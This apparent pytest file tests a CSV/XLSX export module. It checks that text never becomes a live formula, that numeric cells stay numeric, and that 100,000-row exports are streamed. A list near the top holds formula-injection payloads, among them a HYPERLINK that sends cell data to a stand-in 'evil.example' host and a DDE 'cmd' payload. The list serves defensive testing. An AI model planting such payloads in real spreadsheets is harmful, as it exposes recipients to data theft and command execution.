"""The one CSV/XLSX writer (`planwatch.sheets`): numbers stay numbers, text never starts a formula, and a
large download is written in time linear in its rows."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from planwatch import sheets

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def figure_row(i: int) -> dict:
    """A row as `/api/figures?format=…` writes it: 26 cells of text, numbers and booleans."""
    return {"id": i, "indicator": "gdp", "label": "地区生产总值", "measure": "growth", "value": Decimal("6.5"),
            "unit": "%", "op": "approx", "kind": "target", "year": 2024, "region": "九原区",
            "quote": "地区生产总值增长6.5%左右", "start": 100 + i, "end": 112 + i, "qualifier": None,
            "source": "text", "restated": False, "range": False, "doc": "report.txt", "section": "一、主要目标",
            "text": "6.5%左右", "doc_id": 3, "doc_name": "report.txt", "doc_region": "九原区",
            "url": f"/doc/3#f{i}", "catalog": True, "indicator_name": "地区生产总值"}


def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
    rows = [{"region": text, "why": text, "value": Decimal("-3.50"), "year": 2024, "plain": "-2", "pct": "+5%"}
            for text in HOSTILE]
    out = io.StringIO()
    sheets.write_csv(rows, ["region", "why", "value", "year", "plain", "pct"], out)
    got = list(csv.DictReader(io.StringIO(out.getvalue())))
    for row, text in zip(got, HOSTILE):
        assert row["region"] == row["why"] == "'" + text
        assert (row["value"], row["year"], row["plain"], row["pct"]) == ("-3.50", "2024", "-2", "+5%")
    table = io.StringIO()
    sheets.write_csv_table(["=header"], [["@cell", "6%左右"]], table)
    assert list(csv.reader(io.StringIO(table.getvalue()))) == [["'=header"], ["'@cell", "6%左右"]]


def test_xlsx_text_is_never_a_formula_and_numbers_are_number_cells(tmp_path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [{"text": text, "value": Decimal("0.10"), "count": 7, "flag": True} for text in HOSTILE]
    rows.append({"text": "控制\x00字符\x1f", "value": Decimal("1E+999999"), "count": None, "flag": False})
    assert sheets.write_xlsx(rows, ["text", "value", "count", "flag"], path, title="图表:1/2") == len(rows)
    with zipfile.ZipFile(path) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(path).active
    assert sheet.title == "图表_1_2"
    got = list(sheet.iter_rows(values_only=True))
    assert got[0] == ("text", "value", "count", "flag")
    for row, text in zip(got[1:], HOSTILE):
        assert row == (text, 0.1, 7, True)
    assert got[-1] == ("控制字符", "1E+999999", None, False)  # an absurd number is kept, as text


def test_a_100k_row_xlsx_is_streamed_to_its_output() -> None:
    """The safety property of issue 9: an anonymous download of every figure may not hold the server (the
    quadratic writer took 272 s for 1,675 rows): rows go out as they come, the sheet is never held whole.
    Its speed (rows/s at 100 000 rows) is measured by benchmarks/export_speed.py."""
    out = io.BytesIO()
    written_before: dict[int, int] = {}

    def rows():
        for i in range(100_000):
            if i in (50_000, 99_999):
                written_before[i] = out.tell()  # bytes already out when row i is asked for
            yield figure_row(i)

    written = sheets.write_xlsx(rows(), list(figure_row(0)), out)
    assert written == 100_000
    assert 0 < written_before[50_000] < written_before[99_999] < out.tell()
    with zipfile.ZipFile(out) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<row ") == 100_001
    assert re.search(r'<row r="100001">', xml)


@pytest.mark.parametrize("value, text", [(Decimal("16.40"), "16.40"), (Decimal("1.2E+3"), "1200"),
                                         (Decimal("-0.5"), "-0.5"), (Decimal("1E+999999"), "1E+999999")])
def test_decimals_are_written_as_their_digits(value: Decimal, text: str) -> None:
    assert sheets.csv_cell(value) == text
